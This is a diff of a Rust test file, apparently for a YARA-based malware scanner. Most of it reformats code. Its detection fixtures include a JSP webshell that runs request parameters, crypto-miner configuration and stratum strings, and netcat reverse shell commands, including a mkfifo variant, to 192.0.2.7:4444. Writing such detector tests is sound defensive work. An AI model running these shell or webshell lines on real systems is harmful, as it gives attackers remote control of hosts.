@@ -149,7 +149,7 @@ fn a_shared_segment_is_one_holder_with_a_place_for_each_process() {
     assert_eq!(finding["places"].as_array().unwrap().len(), 2);
 }
 
-const FILES_ONLY: &str = r#"
+const FILES_ONLY: &str = r##"
     import "elf"
     import "hash"
     import "math"
@@ -169,11 +169,12 @@ const FILES_ONLY: &str = r#"
     rule in_files { meta: scan_context = "file" strings: $a = "needle-in-both" condition: $a }
     rule not_a_program { strings: $a = "needle-in-both" condition: $a and not program }
     rule clock { strings: $a = "needle-in-both" condition: $a and time.now() > 0 and console.log("x") }
-"#;
+"##;
 
 #[test]
 fn files_have_modules_and_variables_and_memory_does_not() {
-    let process = Process::new(1, "app").map(Mapping::zero(HEAP, 8192).put(HEAP, b"needle-in-both #!"));
+    let process =
+        Process::new(1, "app").map(Mapping::zero(HEAP, 8192).put(HEAP, b"needle-in-both #!"));
     let script = b"#!/bin/sh\necho needle-in-both\n";
     let archive = one(process).rootfs_diff(&[("srv/start.sh", script.as_slice())], false);
     let found = scanned(&archive, FILES_ONLY);
@@ -195,7 +196,10 @@ fn files_have_modules_and_variables_and_memory_does_not() {
     assert_eq!(rule(&part, "yara:rules.named").unwrap()["files"], 1);
     assert!(rule(&part, "yara:rules.digest").unwrap()["files"].as_u64().unwrap() > 0);
     let place = &rule(&part, "yara:rules.in_files").unwrap()["places"][0];
-    assert_eq!((&place["line"], &place["column"], &place["offset"]), (&2.into(), &6.into(), &15.into()));
+    assert_eq!(
+        (&place["line"], &place["column"], &place["offset"]),
+        (&2.into(), &6.into(), &15.into())
+    );
     // The rules that do not run on memory are named, with the reason.
     let note = notes(&found, "yara-files-only");
     let message = note[0]["message"].as_str().unwrap();
@@ -221,11 +225,8 @@ fn what_does_not_compile_is_named_and_the_rest_runs() {
     let rules = Rules::load(&[path.clone()], false, &Limits::default()).unwrap();
     let ids: Vec<&str> = rules.infos().iter().map(|info| info.id.as_str()).collect();
     assert_eq!(ids, ["yara:bad.good", "yara:bad.again"]);
-    let refused: Vec<String> = rules
-        .notes()
-        .iter()
-        .map(|note| format!("{} {}", note.code.name(), note.message))
-        .collect();
+    let refused: Vec<String> =
+        rules.notes().iter().map(|note| format!("{} {}", note.code.name(), note.message)).collect();
     for part in [
         "line 2, column 27: rule unknown",
         "rule late was left out",
@@ -446,20 +447,44 @@ fn pack_samples() -> Vec<(&'static str, Vec<Vec<u8>>, Vec<Vec<u8>>)> {
     vec![
         (
             "miner_xmrig_configuration",
-            vec![text(&["{\"donate-", "level\": 1, \"rig-", "id\": null, \"random", "x\": {}, \"nice", "hash\": false}"])],
+            vec![text(&[
+                "{\"donate-",
+                "level\": 1, \"rig-",
+                "id\": null, \"random",
+                "x\": {}, \"nice",
+                "hash\": false}",
+            ])],
             vec![b"{\"randomx\": {}, \"nicehash\": false, \"rig-id\": 3}".to_vec()],
         ),
         (
             "miner_stratum_session",
             vec![
-                text(&["stra", "tum+tcp://pool.example.org:3333 {\"method\": \"mining.", "subscribe\"}"]),
-                text(&["{\"job_", "id\":\"abcdef12\",\"seed_", "hash\":\"", &"0f".repeat(32), "\"}"]),
+                text(&[
+                    "stra",
+                    "tum+tcp://pool.example.org:3333 {\"method\": \"mining.",
+                    "subscribe\"}",
+                ]),
+                text(&[
+                    "{\"job_",
+                    "id\":\"abcdef12\",\"seed_",
+                    "hash\":\"",
+                    &"0f".repeat(32),
+                    "\"}",
+                ]),
             ],
-            vec![b"{\"method\":\"login\",\"params\":{\"user\":\"x\"}} {\"job_id\":\"1234567\"}".to_vec()],
+            vec![
+                b"{\"method\":\"login\",\"params\":{\"user\":\"x\"}} {\"job_id\":\"1234567\"}"
+                    .to_vec(),
+            ],
         ),
         (
             "miner_command_line",
-            vec![text(&["x\0-o\0pool.example.org:3333\0-u\0", &"4A".repeat(40), "\0--co", "in\0monero\0"])],
+            vec![text(&[
+                "x\0-o\0pool.example.org:3333\0-u\0",
+                &"4A".repeat(40),
+                "\0--co",
+                "in\0monero\0",
+            ])],
             vec![b"curl\0-o\0file.example.org:8080\0-u\0user:pass\0".to_vec()],
         ),
         (
@@ -475,7 +500,9 @@ fn pack_samples() -> Vec<(&'static str, Vec<Vec<u8>>, Vec<Vec<u8>>)> {
         (
             "webshell_jsp_request_runs_command",
             vec![text(&["Runtime.get", "Runtime().exec(req", "uest.getParameter(\"c\"))"])],
-            vec![b"Runtime.getRuntime().availableProcessors(); request.getParameter(\"c\")".to_vec()],
+            vec![
+                b"Runtime.getRuntime().availableProcessors(); request.getParameter(\"c\")".to_vec(),
+            ],
         ),
         (
             "reverse_shell_bash_device",
@@ -487,7 +514,10 @@ fn pack_samples() -> Vec<(&'static str, Vec<Vec<u8>>, Vec<Vec<u8>>)> {
             vec![
                 text(&["nc 192.0.2.7 4444 -e ", "/bin/sh"]),
                 text(&["nc\0-e\0", "/bin/sh\0", "192.0.2.7\0", "4444\0"]),
-                text(&["mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 ", "| nc 192.0.2.7 4444 > /tmp/f"]),
+                text(&[
+                    "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 ",
+                    "| nc 192.0.2.7 4444 > /tmp/f",
+                ]),
             ],
             vec![b"nc -z database 5432 && echo up; sync -e /bin/shutdown".to_vec()],
         ),
